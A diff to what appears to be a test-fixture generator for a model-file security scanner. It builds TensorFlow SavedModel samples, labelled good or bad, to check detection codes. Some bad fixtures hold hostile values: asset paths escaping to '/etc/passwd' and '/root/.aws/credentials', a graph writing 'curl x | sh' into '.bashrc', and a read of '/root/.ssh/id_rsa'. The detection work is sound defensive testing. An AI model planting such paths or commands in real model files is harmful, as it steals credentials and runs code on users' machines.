@@ -384,11 +384,17 @@ def proto_varint(number, value):
     return varint(number << 3) + varint(value)
 
 
-def tf_node(name, op, inputs=()):
-    return proto_field(1, name.encode()) + proto_field(2, op.encode()) + b''.join(proto_field(3, i.encode()) for i in inputs)
+def tf_node(name, op, inputs=(), value=None):
+    """A NodeDef; `value` makes a string Const: attr = 5 { key = 1: "value", value = 2: AttrValue { tensor = 8:
+    TensorProto { dtype = 1: DT_STRING (7), string_val = 8 } } } (framework/node_def.proto, attr_value.proto, tensor.proto)."""
+    node = proto_field(1, name.encode()) + proto_field(2, op.encode()) + b''.join(proto_field(3, i.encode()) for i in inputs)
+    if value is not None:
+        node += proto_field(5, proto_field(1, b'dtype') + proto_field(2, proto_varint(6, 7)))
+        node += proto_field(5, proto_field(1, b'value') + proto_field(2, proto_field(8, proto_varint(1, 7) + proto_field(8, value.encode()))))
+    return node
 
 
-def saved_model(graph_nodes, functions, assets=()):
+def saved_model(graph_nodes, functions, assets=(), asset_tensors=None):
     """A SavedModel: schema version = 1, meta_graphs = 2 { graph_def = 2 { node = 1, library = 2 { function = 1 {
     signature = 1 { name = 1 }, node_def = 3 } } }, asset_file_def = 6 { tensor_info = 1 { name = 1 }, filename = 2 } },
     hand-encoded from tensorflow/core/protobuf/saved_model.proto, meta_graph.proto, framework/graph.proto and
@@ -398,7 +404,8 @@ def saved_model(graph_nodes, functions, assets=()):
     graph = b''.join(proto_field(1, tf_node(*n)) for n in graph_nodes) + proto_field(2, library) + proto_field(4, b'\x08\xb0\x01')
     meta_graph = proto_field(1, proto_field(4, b'serve')) + proto_field(2, graph)
     for i, filename in enumerate(assets):
-        meta_graph += proto_field(6, proto_field(1, proto_field(1, f'asset_path_{i}:0'.encode())) + proto_field(2, filename.encode()))
+        tensor = asset_tensors[i] if asset_tensors else f'asset_path_{i}:0'
+        meta_graph += proto_field(6, proto_field(1, proto_field(1, tensor.encode())) + proto_field(2, filename.encode()))
     return proto_varint(1, 1) + proto_field(2, meta_graph)
 
 
@@ -572,6 +579,17 @@ def fixtures():
     # Asset files are joined to <export dir>/assets/ without containment (a SavedModel asset traversal PoC on the Hub).
     f['good-saved-model-assets.pb'] = (saved_model(serving, [], assets=['vocab.txt', 'tables/labels.txt']), [])
     f['bad-saved-model-asset-escape.pb'] = (saved_model(serving, [], assets=['vocab.txt', '../../../../etc/passwd', '/root/.aws/credentials']), ['AIS618'])
+    # A path traced into a tf.function is a Const node: tf.io.read_file('/root/.ssh/id_rsa') through an Identity,
+    # and tf.io.write_file('../../.bashrc', ...) in the graph itself.
+    f['bad-saved-model-const-path.pb'] = (saved_model(serving + [('dest', 'Const', [], '../../.bashrc'), ('line', 'Const', [], 'curl x | sh'), ('w', 'WriteFile', ['dest', 'line'])],
+                                                      [('__inference_serve_9', [('key_path', 'Const', [], '/root/.ssh/id_rsa'), ('key_path_id', 'Identity', ['key_path:output:0']),
+                                                                                 ('read', 'ReadFile', ['key_path_id:output:0'])])]), ['AIS609', 'AIS618'])
+    # TensorFlow 1 exports keep the export-time absolute vocabulary path in a Const that asset_file_def names (the
+    # loader feeds the asset's real path into it), and a relative path of the model's own is no escape either.
+    f['good-saved-model-tf1-table.pb'] = (saved_model(serving + [('asset_path', 'Const', [], '/tmp/export-1699/assets/vocab.txt'), ('table', 'HashTableV2', []),
+                                                                 ('init', 'InitializeTableFromTextFileV2', ['table', 'asset_path']),
+                                                                 ('labels', 'Const', [], 'labels.txt'), ('init2', 'InitializeTableFromTextFileV2', ['table', 'labels'])],
+                                                     [], assets=['vocab.txt'], asset_tensors=['asset_path:0']), [])
     f['bad-saved-model-read-file.pb'] = (saved_model(serving, [('__inference_serve_7', [('files', 'MatchingFiles', ['pattern']), ('read', 'ReadFile', ['files'])])]), ['AIS609'])
 
     # ONNX models.
